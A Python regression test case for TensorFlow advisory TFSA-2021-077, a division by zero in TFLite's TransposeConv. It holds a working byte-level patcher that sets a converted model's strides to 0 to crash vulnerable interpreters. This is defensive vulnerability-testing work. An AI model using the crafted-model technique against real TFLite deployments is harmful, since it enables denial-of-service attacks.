"""TFSA-2021-077 (CVE-2021-29588): division by zero in TFLite's optimized TransposeConv (stride 0 in the model)."""

import struct

BUG = {
    "id": "tfsa_2021_077",
    "title": "TFLite optimized TRANSPOSE_CONV divides by stride_h/stride_w read from the model (stride 0)",
    "source": [
        "https://github.com/tensorflow/tensorflow/blob/master/tensorflow/security/advisory/tfsa-2021-077.md",
        "https://github.com/tensorflow/tensorflow/commit/801c1c6be5324219689c98e1bd3e0ca365ee834d",
    ],
    "kind": "crash",
    "affected": "< 2.5.0, except the patched 2.4.2, 2.3.3, 2.2.3, 2.1.4",
    "fixed_in": ["2.5.0", "2.4.2", "2.3.3", "2.2.3", "2.1.4"],
    "last_affected": "2.4.1",
    "first_fixed": "2.4.2",
    "good_when": "no-crash",
    "note": (
        "The advisory gives no model ('an attacker can craft a model such that stride_{h,w} "
        "values are 0'). The case crafts one: tf.nn.conv2d_transpose (stride 2) converted with "
        "tf.lite.TFLiteConverter, then the two stride fields of the TRANSPOSE_CONV operator's "
        "TransposeConvOptions overwritten with 0 in the flatbuffer bytes (a small reader in the "
        "case finds them; no flatbuffers package needed), run by tf.lite.Interpreter with its "
        "default (optimized) kernels. A clean error from allocate_tensors or invoke counts as "
        "fixed."
    ),
}

TRANSPOSE_CONV = 67  # BuiltinOperator in tensorflow/lite/schema/schema.fbs


def _u16(buf, pos):
    return struct.unpack_from("<H", buf, pos)[0]


def _u32(buf, pos):
    return struct.unpack_from("<I", buf, pos)[0]


def _i32(buf, pos):
    return struct.unpack_from("<i", buf, pos)[0]


def _field(buf, table, index):
    """Where field ``index`` of the flatbuffer table at ``table`` is stored, or None if absent."""
    vtable = table - _i32(buf, table)
    slot = 4 + 2 * index
    if slot >= _u16(buf, vtable):
        return None
    offset = _u16(buf, vtable + slot)
    return table + offset if offset else None


def _table(buf, pos):
    """The table a uoffset stored at ``pos`` points to."""
    return pos + _u32(buf, pos)


def _vector(buf, pos):
    """Positions of the elements of the vector a uoffset stored at ``pos`` points to."""
    vec = pos + _u32(buf, pos)
    return [vec + 4 + 4 * i for i in range(_u32(buf, vec))]


def _opcode(buf, code_table):
    """OperatorCode.builtin_code (field 3, int32) or the older deprecated_builtin_code (field 0, int8)."""
    pos = _field(buf, code_table, 3)
    if pos is not None and _i32(buf, pos) > 0:
        return _i32(buf, pos)
    pos = _field(buf, code_table, 0)
    return struct.unpack_from("<b", buf, pos)[0] if pos is not None else 0


def zero_transpose_conv_strides(model):
    """The .tflite bytes with stride_w and stride_h of every TRANSPOSE_CONV set to 0."""
    buf = bytearray(model)
    root = _table(buf, 0)
    codes = [_opcode(buf, _table(buf, p)) for p in _vector(buf, _field(buf, root, 1))]
    patched = 0
    for subgraph in _vector(buf, _field(buf, root, 2)):
        subgraph = _table(buf, subgraph)
        for op in _vector(buf, _field(buf, subgraph, 3)):
            op = _table(buf, op)
            index = _field(buf, op, 0)
            if codes[_u32(buf, index) if index is not None else 0] != TRANSPOSE_CONV:
                continue
            options = _table(buf, _field(buf, op, 4))
            for field in (1, 2):  # TransposeConvOptions: padding, stride_w, stride_h
                struct.pack_into("<i", buf, _field(buf, options, field), 0)
            patched += 1
    if not patched:
        raise AssertionError("the converted model has no TRANSPOSE_CONV operator")
    return bytes(buf)


def case_tfsa_2021_077(tf, np):
    """conv2d_transpose [1, 4, 4, 1] -> [1, 8, 8, 1] (filter 2x2, stride 2) as .tflite, strides patched to 0"""
    x = np.ones((1, 4, 4, 1), np.float32)

    @tf.function(input_signature=[tf.TensorSpec([1, 4, 4, 1], tf.float32)])
    def up(inp):
        w = tf.constant(np.ones((2, 2, 1, 1), np.float32))
        return tf.nn.conv2d_transpose(inp, w, output_shape=[1, 8, 8, 1], strides=[1, 2, 2, 1],
                                      padding="SAME")

    converter = tf.lite.TFLiteConverter.from_concrete_functions([up.get_concrete_function()])
    interpreter = tf.lite.Interpreter(model_content=zero_transpose_conv_strides(converter.convert()))
    interpreter.allocate_tensors()
    interpreter.set_tensor(interpreter.get_input_details()[0]["index"], x)
    interpreter.invoke()
    return interpreter.get_tensor(interpreter.get_output_details()[0]["index"])
